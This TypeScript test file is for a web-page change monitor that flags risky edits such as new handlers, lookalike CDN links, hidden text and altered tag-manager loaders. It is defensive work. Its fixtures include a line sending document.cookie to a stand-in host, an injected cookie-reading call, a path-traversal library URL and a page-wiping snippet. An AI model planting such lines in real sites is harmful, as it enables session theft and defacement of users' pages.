import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { LookOptions } from './index.ts'
import { pageOf, type Parts, Site, told } from '../../../../test/support/watched-page.ts'

const DAY = 86_400_000

/** What is told when a learned page is another one. */
function edited(before: string, after: string, options: Partial<LookOptions> = {}): string {
  const site = new Site(() => before).learned()
  return told(site.look(after, DAY, options).items).join(', ')
}

const changed = (before: Parts, after: Parts) => edited(pageOf(before), pageOf(after))

test('a handler that only shows, prints or goes back reaches nothing', () => {
  const button = (code: string, on = 'onclick') => ({
    main: `<p><button type="button" ${on}="${code}">⎙</button></p>`,
  })
  for (const code of [
    'window.print()',
    'print(); return false',
    'history.back()',
    'window.scrollTo(0, 0)',
    "document.getElementById('menu').classList.toggle('open')",
    'this.select()',
    'return false',
  ])
    assert.match(changed({}, button(code)), /^M handler new_code(?:, M text added)?$/, code)
  for (const code of [
    'send()',
    "location.href='https://a.test/'",
    "window.open('https://a.test/')",
    'this.form.submit()',
    "document.getElementById('when').hidden=true",
    "document.getElementById('when').innerHTML=''",
  ])
    assert.match(changed({}, button(code)), /[CH] handler/, code)
  assert.match(changed({}, button('window.print()', 'onload')), /H handler new_code/)
  assert.match(
    changed({}, { main: '<p><a href="javascript:window.print()">⎙</a></p>' }),
    /M code new_code/,
  )
})

test('one version of a well-known library at a mirror is no stranger', () => {
  const sheet = (href: string) => ({ head: `<link rel="stylesheet" href="${href}">` })
  const rows: [string, string][] = [
    ['https://cdn.jsdelivr.net/npm/bootstrap-icons@1.11.3/font/bootstrap-icons.min.css', 'M'],
    ['https://unpkg.com/leaflet@1.9.4/dist/leaflet.css', 'M'],
    ['https://cdnjs.cloudflare.com/ajax/libs/font-awesome/6.5.1/css/all.min.css', 'M'],
    ['https://cdn.jsdelivr.net/npm/bootstrap-icons/font/bootstrap-icons.css', 'H'],
    ['https://cdn.jsdelivr.net/npm/bootstrap-icons@latest/font/x.css', 'H'],
    ['https://cdn.jsdelivr.net/npm/boot-strap@1.0.0/x.css', 'H'],
    ['https://cdn.jsdelivr.net/gh/a/bootstrap@1.0.0/x.css', 'H'],
    ['https://cdn.jsdelivr.net.a.test/npm/bootstrap@5.3.3/x.css', 'H'],
    ['https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/../evil@1.0.0/x.css', 'H'],
  ]
  for (const [href, level] of rows)
    assert.match(changed({}, sheet(href)), new RegExp(`^${level} sheet new_style`), href)
  const JQUERY = 'https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js'
  assert.match(changed({}, { head: `<script src="${JQUERY}"></script>` }), /H script/)
  assert.equal(
    changed({}, { head: `<script src="${JQUERY}" integrity="sha384-x" crossorigin></script>` }),
    'M script new_script',
  )
})

test('a text that is struck or hidden where it stood, though it stands elsewhere too', () => {
  const RULE = 'You can vote without your polling card.'
  const told_ = (text: string) => ({
    main: `<section id="rules"><p>${text}</p></section><details><summary>Questions</summary><div><p>${RULE}</p></div></details>`,
  })
  for (const text of [
    `<del>${RULE}</del>`,
    `<s>${RULE}</s>`,
    `<span aria-hidden="true" style="opacity:.01">${RULE}</span>`,
    `<span style="opacity:0.05">${RULE}</span>`,
    `<span hidden>${RULE}</span>`,
  ])
    assert.match(changed(told_(RULE), told_(text)), /H text hidden_text/, text)
  assert.equal(changed(told_(RULE), told_(`<b>${RULE}</b>`)), '')
})

test('a style that hides by attributes hides all the same', () => {
  const office = (style: string) => ({
    head: style === '' ? '' : `<style>${style}</style>`,
    main: '<section id="contact-b4c" class="box contact-box" v-cloak data-x><p>Main Street 8, 5579 Town</p><p>Call +10 200 4000.</p></section>',
  })
  const HIDES = '{clip-path:inset(50%);height:0;overflow:hidden}'
  for (const selector of [
    '#content [class*="contact"]',
    '[class*=contact]',
    "#content section[id^='contact']",
    '[class~="contact-box"]',
    'section[class$="-box"] p',
    '[id|="contact"]',
  ])
    assert.match(changed(office(''), office(selector + HIDES)), /H text hidden_text/, selector)
  for (const selector of [
    '[class*="other"]',
    'section[id^="tact"]',
    '[data-x]',
    '[v-cloak]',
    '[class*=""]',
  ])
    assert.doesNotMatch(changed(office(''), office(selector + HIDES)), /hidden_text/, selector)
})

test('a loader of a firm that is written otherwise is the same loader', () => {
  const first = (id: string, host = 'www.googletagmanager.com') =>
    `!function(e,t,a,n){e[n]=e[n]||[],e[n].push({"gtm.start":(new Date).getTime(),event:"gtm.js"});var r=t.createElement(a);r.async=!0,r.src="https://${host}/gtm.js?id=${id}",t.head.append(r)}(window,document,"script","dataLayer");`
  const other = (id: string, host = 'www.googletagmanager.com', more = '') =>
    `window.dataLayer=window.dataLayer||[];dataLayer.push({'gtm.start':Date.now(),event:'gtm.js'});(function(d,i){var j=d.createElement('script');j.async=!0;j.src='https://${host}/gtm.js?id='+i;d.head.appendChild(j)})(document,'${id}');${more}`
  const page = (code: string) => ({ head: `<script>${code}</script>` })
  const OWN = 'GTM-REYVMUF'
  assert.equal(changed(page(first(OWN)), page(other(OWN))), '')
  assert.equal(changed(page(other(OWN)), page(first(OWN))), '')
  for (const code of [
    other('GTM-PX3MVH9'),
    other(OWN, 'a.test'),
    other(OWN, 'www.googletagmanager.com', 'document.body.innerHTML="";'),
    other(OWN, 'www.googletagmanager.com', 'x(document.cookie);'),
  ])
    assert.match(changed(page(first(OWN)), page(code)), /[CH] inline/, code)
  // The container of a known loader is a part of it.
  assert.equal(changed(page(first(OWN)), page(first('GTM-PX3MVH9'))), 'M inline other_account')
})

test('a build that has one more part is no news, whatever the look before had', () => {
  const part = (hash: string) =>
    `<script type="module" src="/_app/chunks/part-${hash}.js"></script>`
  const all = ['k3Xq9ZpA', 'Bq8LmT4e', 'zW5uRn7Y'].map(part).join('')
  const address = (hash: string) => `https://www.vote.example/_app/chunks/part-${hash}.js`
  const code = 'export function menu(name) { return document.querySelector(name) }'
  const files = (more: string) =>
    new Map([
      ...['k3Xq9ZpA', 'Bq8LmT4e', 'zW5uRn7Y'].map((hash) => [address(hash), code] as const),
      [address('Hs2VcJ6d'), more] as const,
    ])
  const look = (more: string) => {
    const site = new Site(() => pageOf({ head: all }), { files: files(code) }).learned()
    const html = pageOf({ head: all + part('Hs2VcJ6d') })
    return told(site.look(html, DAY, { files: files(more) }).items).join()
  }
  assert.equal(look(`${code}; menu("#a")`), '')
  assert.match(look('fetch("https://a.test/?" + document.cookie)'), /[HM] /)
})
